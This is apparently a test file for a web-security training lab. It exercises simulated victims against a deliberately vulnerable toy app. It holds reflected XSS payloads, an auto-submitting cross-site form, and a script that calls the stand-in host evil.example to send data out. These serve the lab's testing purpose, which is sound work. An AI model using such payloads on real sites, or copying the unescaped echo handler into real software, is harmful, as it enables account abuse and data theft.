import { beforeAll, describe, expect, it } from 'vitest';
import { buildEngine, buildLab, buildProgram } from '../../testing/build-lab.ts';
import { type LabEngine, LabFault, listVictims, openPreview, type TestRun } from '../index.ts';

let engine: LabEngine;
beforeAll(async () => {
  engine = await buildEngine();
});

const APP = `app.get('/login', (q, r) => r.send('<form method=post><input name=user><input name=password type=password><button>Sign in</button></form>'));
app.post('/login', (q, r) => { if (q.body.password !== 'pw') return r.status(401).send('no'); sessions.open(r, q.body.user); r.redirect('/me'); });
app.get('/me', (q, r) => r.send('<title>Me</title><p id=hi>hi ' + sessions.user(q) + '</p><a href="/echo?q=link">next</a>'));
app.get('/echo', (q, r) => r.send('<!doctype html><h1>Echo</h1><div>' + q.query.q + '</div>'));
app.post('/note', (q, r) => { db.run('INSERT INTO notes VALUES (?, ?)', sessions.user(q), q.body.text); r.send('noted'); });`;
const seed = { sql: 'CREATE TABLE notes (owner TEXT, text TEXT);' };

const run = (source: string): TestRun =>
  engine.test(engine.prepare(buildProgram(APP, seed)), {
    id: 'case',
    source,
    seed: 1,
    accounts: [{ user: 'ada', password: 'pw', name: 'Ada' }],
    signIn: { path: '/login', user: 'user', password: 'password' },
  });

const passes = (source: string) => {
  const { status, message } = run(source);
  expect([status, message]).toEqual(['passed', '']);
};

describe('A victim sent to a page from the preview', () => {
  const lab = buildLab({});
  const pack = {
    ...lab.pack,
    ...buildProgram(APP, {
      ...seed,
      world: {
        signIn: { path: '/login', user: 'user', password: 'password' },
        victims: ['ada', { user: 'root', password: 'pw', name: 'Root' }],
      },
    }),
    accounts: [{ user: 'ada', password: 'pw', name: 'Ada', note: '' }],
  };

  it('the victim is a user the lab names, with a separate browser', () => {
    expect(listVictims(pack).map(({ name }) => name)).toEqual(['Ada', 'Root']);
    const preview = openPreview(engine, pack, []);
    const reply = preview.visitAs('root', '/echo?q=<script>alert(document.domain)</script>');
    expect(reply.url).toContain('/echo');
    expect(reply.exchanges.flatMap(({ lines }) => lines)).toContainEqual({
      kind: 'call',
      text: 'Page of https://app.test called alert("app.test")',
      breach: true,
    });
    expect(reply.cookies).toEqual([]);
    expect(() => preview.visitAs('eve', '/')).toThrow(LabFault);
    const lured = preview.visitAttacker(
      'ada',
      '<form method=post action="https://app.test/note"></form><script>document.forms[0].submit()</script>',
    );
    expect(lured.exchanges.map(({ request }) => request.url)).toContain('/note');
    preview.close();
  });

  it('the victim is offered only among the accounts that the lab names', () => {
    const world = { victims: ['nobody'] };
    expect(() => listVictims({ ...pack, seed: { ...pack.seed, world } })).toThrow(
      'nobody, who has no account',
    );
    expect(() => listVictims({ ...pack, seed: { ...pack.seed, world: { victims: [1] } } })).toThrow(
      'seed.world.victims',
    );
  });
});

describe("A victim in the learner's attack script", () => {
  it('the victim is sent to an address, and seen only by what reaches the attacker', () => {
    const { status, message } = engine.test(engine.prepare(buildProgram(APP, seed)), {
      id: 'attack',
      source:
        "const ada = await victim('ada'); const seen = await ada.visit('/echo?q=' + encodeURIComponent('<script>fetch(\"https://evil.example/?\" + 7)</scr' + 'ipt>')); if (typeof ada.cookies !== 'undefined' || seen.html !== undefined) fail('too much'); found(seen.outgoing[0].url.slice(-1));",
      seed: 1,
      accounts: [{ user: 'ada', password: 'pw', name: 'Ada' }],
      signIn: { path: '/login', user: 'user', password: 'password' },
      flag: '7',
    });
    expect([status, message]).toEqual(['passed', '']);
  });
});

describe('A victim in a test program', () => {
  it('the victim fills and sends forms, and shows the result', () =>
    passes(`const ada = await victim();
      await ada.visit('/login'); await ada.fill('[name=user]', 'ada');
      const page = await ada.submit('form', { password: 'pw' });
      expect(page.url).toBe('https://app.test/me'); expect(page.all('p')[0].text).toBe('hi ada'); expect(page.find('nav')).toBe(null); expect(ada.cookies()[0].httpOnly).toBe(true);`));

  it('the victim acts as a stranger, makes an attack across sites, and reports an account that cannot sign in', () => {
    passes(`const guest = await victim(); expect((await guest.visit('/me')).text).toContain('hi null');
      const page = await guest.visitAttacker('<img src=x.js onerror=1><script src=/x.js></script>', { url: 'https://evil.example/a/b', files: { 'x.js': 'alert(location.pathname)' } });
      expect(page.dialogs[0].message).toBe('/a/b'); expect(page.dialogs[0].origin).toBe('https://evil.example'); expect(ran('/a/b')).toBe(false);
      blocked('cross-site', 'none'); blocked('csp', 'none');`);
    expect(run("await victim('ada', 'wrong')").message).toContain('should open a session');
    expect(
      run("const a = await victim(); await a.visit('/me'); await a.click('#nothing')").message,
    ).toContain('nothing on https://app.test/me matches #nothing');
  });

  it('the victim signs in through the form and sees pages after their scripts', () =>
    passes(`const ada = await victim('ada');
      expect(ada.user()).toBe('ada');
      const page = await ada.visit('/me');
      expect(page.title).toBe('Me'); expect(page.find('#hi').text).toBe('hi ada'); expect(page.status).toBe(200);
      const next = await ada.click('a');
      expect(next.url).toBe('https://app.test/echo?q=link');`));

  it('the victim runs what an attacker put into a page, with the origin of the app', () =>
    passes(`const ada = await victim('ada');
      const mark = token(8);
      const page = await ada.visit('/echo?q=' + encodeURIComponent('<script>alert("' + mark + '")</scr' + 'ipt>'));
      expect(ran(mark)).toBe(true);
      expect(page.of('script')[0].how).toBe('inline'); expect(page.of('script')[0].user).toBe('ada'); expect(page.of('script')[0].calls).toEqual(['alert']);
      const image = await ada.visit('/echo?q=' + encodeURIComponent('<img src=x onerror="alert(document.domain)">'));
      expect(image.dialogs[0].message).toBe('app.test');`));
});
